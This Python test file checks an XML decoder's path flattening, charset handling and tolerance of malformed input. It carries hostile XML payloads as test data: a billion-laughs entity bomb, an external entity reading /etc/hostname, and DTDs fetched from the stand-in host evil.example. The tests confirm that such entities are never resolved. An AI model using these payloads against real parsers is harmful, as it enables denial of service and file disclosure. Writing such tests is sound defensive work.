"""XML: paths, attributes, repeated elements; entities and documents made to harm stay inert."""

from __future__ import annotations

import pytest

XML = "text/xml; charset=utf-8"


def test_elements_attributes_and_repetition(decode):
    body = """<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>
      <u:leerlingen xmlns:u="urn:x"><u:leerling key="1" u:eckid="e1"><u:roepnaam>Sanne</u:roepnaam></u:leerling>
      <u:leerling key="2"><u:roepnaam>Zoë</u:roepnaam><leeg/></u:leerling></u:leerlingen>
      <school><naam><![CDATA[De <Ark>]]></naam></school></s:Body></s:Envelope>"""
    outcome = decode(response=body.encode(), kind=XML)
    base = "/Envelope/Body/leerlingen/leerling"
    assert outcome.body == {
        f"{base}/0/@key": "1",
        f"{base}/0/@eckid": "e1",
        f"{base}/0/roepnaam": "Sanne",
        f"{base}/1/@key": "2",
        f"{base}/1/roepnaam": "Zoë",
        "/Envelope/Body/school/naam": "De <Ark>",
    }
    assert outcome.notes == []
    assert outcome.field("Zoë").path.names[-2:] == ("leerling", "roepnaam")
    assert outcome.field("Zoë").origin.format == "xml"


def test_mixed_content_and_comments(decode):
    outcome = decode(response=b"<a>Beste <b>Sanne</b>, goed gedaan<!-- bsn 999990019 --></a>", kind=XML)
    assert outcome.body == {"/a/#text": "Beste", "/a/b": "Sanne", "/a/#comment": "bsn 999990019"}
    assert ", goed gedaan" in outcome.values


@pytest.mark.parametrize(
    ("body", "charset"),
    [
        ('<?xml version="1.0" encoding="ISO-8859-1"?><a>Zoë</a>'.encode("latin-1"), ""),
        ("<a>Zoë</a>".encode("latin-1"), "; charset=iso-8859-1"),
        ("\ufeff<a>Zoë</a>".encode(), ""),
        ('<?xml version="1.0" encoding="UTF-16"?><a>Zoë</a>'.encode("utf-16"), ""),
    ],
)
def test_charsets(decode, body, charset):
    assert decode(response=body, kind="text/xml" + charset).body == {"/a": "Zoë"}


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]><l>&j;</l>"
)


@pytest.mark.parametrize(
    "body",
    [
        LAUGHS,
        LAUGHS.replace("<l>&j;</l>", '<l x="&j;"/>'),
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a>&y;</a>',
    ],
)
def test_entities_are_never_resolved(decode, body):
    outcome = decode(response=body.encode(), kind=XML)
    assert outcome.values == [body]
    assert outcome.gaps == [("content.parse-failed", len(body), "xml", True)]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">',
        "<!DOCTYPE a [<!ELEMENT a (#PCDATA)> <!-- > ] ' -->]>",
        '<!DOCTYPE a [<!ENTITY x "]>"> <!ATTLIST a b CDATA "standaard">]>',
    ],
)
def test_a_document_type_is_cut_away(decode, doctype):
    assert decode(response=f"<?xml version='1.0'?>{doctype}<a>Sanne</a>".encode(), kind=XML).body == {"/a": "Sanne"}


@pytest.mark.parametrize(
    "body",
    [
        "<a>Sanne",
        "<a><b></a></b>",
        "<a>\x01</a>",
        "<!DOCTYPE a [",
        "<!DOCTYPE a '",
        "<!DOCTYPE a [<!-- ",
        "<a " * 5000,
        "<a>" * 5000 + "Sanne" + "</a>" * 5000,
        "<!DOCTYPE a [" + "<!--" * 50_000,
        "<!DOCTYPE a " + "'\"" * 50_001,
    ],
)
def test_what_does_not_parse_is_text(decode, body):
    outcome = decode(response=body.encode(), kind=XML)
    assert "".join(outcome.values).strip() == body.strip()
    assert outcome.gaps[-1][0] == "content.parse-failed"
